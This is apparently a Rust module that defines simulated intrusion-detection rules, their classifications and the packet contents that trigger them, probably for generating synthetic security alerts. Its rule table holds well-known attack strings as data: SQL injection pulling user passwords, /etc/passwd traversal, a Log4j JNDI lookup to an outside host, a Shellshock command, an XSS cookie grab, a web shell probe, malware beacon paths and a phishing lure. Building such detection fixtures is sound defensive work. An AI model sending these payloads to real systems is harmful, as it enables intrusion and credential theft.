//! The intrusion rules that fire, and what the packets that trigger them carry.

/// Where an attack comes from and goes to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Scene {
    /// A stranger asks a web server of the company.
    InboundWeb,
    /// An infected workstation calls home.
    OutboundWeb,
    /// A workstation attacks a file server.
    Lateral,
    /// A workstation resolves a bad name.
    Dns,
    /// A stranger knocks at an SSH server.
    InboundSsh,
    /// A stranger sends mail to the mail server.
    InboundMail,
    /// A stranger pings.
    Ping,
}

/// A rule.
#[derive(Debug)]
pub(crate) struct IntrusionRule {
    pub(crate) generator: u32,
    pub(crate) id: u32,
    pub(crate) revision: u32,
    pub(crate) message: &'static str,
    /// Index into [`CLASSES`].
    pub(crate) class: usize,
    pub(crate) scene: Scene,
    /// The path of an HTTP request; else what the packet carries where the scene does not say.
    pub(crate) payload: &'static str,
    /// The browser an HTTP request pretends to come from.
    pub(crate) agent: &'static str,
    /// Whether the policy drops what it matches.
    pub(crate) drop: bool,
    /// Index into [`INDICATIONS`] plus 1; 0 when it says nothing about a compromise.
    pub(crate) indication: usize,
}

/// Classifications: id, name, description, priority.
pub(crate) const CLASSES: [(u32, &str, &str, u32); 9] = [
    (10, "web-application-attack", "Web Application Attack", 1),
    (33, "trojan-activity", "A Network Trojan was Detected", 1),
    (5, "attempted-admin", "Attempted Administrator Privilege Gain", 1),
    (30, "attempted-recon", "Attempted Information Leak", 2),
    (2, "bad-unknown", "Potentially Bad Traffic", 2),
    (29, "misc-activity", "Misc Activity", 3),
    (25, "suspicious-login", "An Attempted Login Using a Suspicious Username was Detected", 2),
    (31, "protocol-command-decode", "Generic Protocol Command Decode", 3),
    (35, "policy-violation", "Potential Corporate Privacy Violation", 1),
];

/// Priorities, in the order of their numbers from 1.
pub(crate) const PRIORITIES: [&str; 4] = ["high", "medium", "low", "very low"];

/// Indications of compromise: id, category, event type.
pub(crate) const INDICATIONS: [(u32, &str, &str); 4] = [
    (3, "CnC Connected", "Intrusion Event - malware-cnc"),
    (8, "Malware Detected", "Threat Detected in File Transfer"),
    (11, "Malware Executed", "Threat Detected by Endpoint - Executed"),
    (19, "Impact 1 Attack", "Impact 1 Intrusion Event - attempted-admin"),
];

const CURL: &str = "curl/8.5.0";
const SCANNER: &str = "Mozilla/5.0 (compatible; Nmap Scripting Engine)";
const LOADER: &str = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)";

macro_rules! rules {
    ($($id:literal rev $revision:literal $message:literal $class:literal $scene:ident $payload:literal $agent:expr, $drop:literal, $indication:literal;)*) => {
        &[$(IntrusionRule {
            generator: 1,
            id: $id,
            revision: $revision,
            message: $message,
            class: $class,
            scene: Scene::$scene,
            payload: $payload,
            agent: $agent,
            drop: $drop,
            indication: $indication,
        }),*]
    };
}

/// The rules. Local ones, so their numbers are above 1,000,000; the first are standard text rules (generator 1).
pub(crate) const RULES: &[IntrusionRule] = rules! {
    1000101 rev 3 "SERVER-WEBAPP SQL injection attempt in id parameter" 0 InboundWeb "/shop/item.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--" SCANNER, true, 4;
    1000102 rev 2 "SERVER-WEBAPP directory traversal attempt" 0 InboundWeb "/cgi-bin/view?file=../../../../../../etc/passwd" CURL, true, 0;
    1000103 rev 5 "SERVER-APACHE Log4j logging remote code execution attempt" 2 InboundWeb "/?x=${jndi:ldap://203.0.113.66:1389/a}" CURL, true, 4;
    1000104 rev 1 "SERVER-WEBAPP cross site scripting attempt" 0 InboundWeb "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" SCANNER, false, 0;
    1000105 rev 4 "SERVER-OTHER Bash environment variable injection attempt" 2 InboundWeb "/cgi-bin/status" "() { :;}; /bin/id", true, 4;
    1000106 rev 1 "SERVER-WEBAPP web shell upload probe" 3 InboundWeb "/wp-content/uploads/shell.php?cmd=whoami" SCANNER, false, 0;
    1000107 rev 2 "INDICATOR-SCAN dirb vulnerability scan" 3 InboundWeb "/.git/config" SCANNER, false, 0;
    1000108 rev 1 "POLICY-OTHER PHP version disclosure request" 4 InboundWeb "/phpinfo.php" CURL, false, 0;
    1000201 rev 7 "MALWARE-CNC Nightjar outbound connection" 1 OutboundWeb "/gate.php?bot=7F31A2&ver=4" LOADER, true, 1;
    1000202 rev 3 "MALWARE-CNC Greywolf beacon" 1 OutboundWeb "/b/pixel.gif?u=0193af" LOADER, true, 1;
    1000203 rev 1 "POLICY-SPYWARE Coinrush mining pool login" 8 OutboundWeb "/json_rpc" "XMRig/6.21.0", false, 0;
    1000204 rev 2 "FILE-EXECUTABLE suspicious loader download" 4 OutboundWeb "/stage/loader.exe" LOADER, false, 0;
    1000301 rev 6 "OS-WINDOWS SMB remote code execution attempt" 2 Lateral "" "", true, 4;
    1000302 rev 2 "NETBIOS SMB dialect negotiation anomaly" 7 Lateral "" "", false, 0;
    1000401 rev 4 "INDICATOR-COMPROMISE DNS request for known malware domain" 1 Dns "" "", false, 1;
    1000402 rev 1 "INDICATOR-COMPROMISE DNS request for generated domain name" 4 Dns "" "", false, 0;
    1000501 rev 2 "INDICATOR-SCAN SSH brute force login attempt" 6 InboundSsh "SSH-2.0-libssh_0.9.6\r\n" "", false, 0;
    1000502 rev 1 "SERVER-OTHER SSH client version used by scanners" 3 InboundSsh "SSH-2.0-Go\r\n" "", false, 0;
    1000601 rev 3 "FILE-OFFICE document with macro in mail attachment" 4 InboundMail "Please find the overdue invoice attached." "", true, 0;
    1000602 rev 1 "INDICATOR-COMPROMISE phishing message with link to credential page" 4 InboundMail "Your mailbox is full: http://login-verify.secure-mail.example/" "", false, 0;
    1000701 rev 1 "PROTOCOL-ICMP PING sweep" 5 Ping "abcdefghijklmnopqrstuvwabcdefghi" "", false, 0;
    1000702 rev 2 "PROTOCOL-ICMP large echo request" 5 Ping "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" "", false, 0;
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rules_refer_to_what_there_is_and_every_scene_has_two() {
        for rule in RULES {
            assert!(rule.class < CLASSES.len() && rule.indication <= INDICATIONS.len());
            assert!(RULES.iter().filter(|r| r.scene == rule.scene).count() >= 2);
            assert!(RULES.iter().filter(|r| r.id == rule.id).count() == 1);
        }
        assert!(CLASSES.iter().all(|c| (1..=PRIORITIES.len() as u32).contains(&c.3)));
    }
}
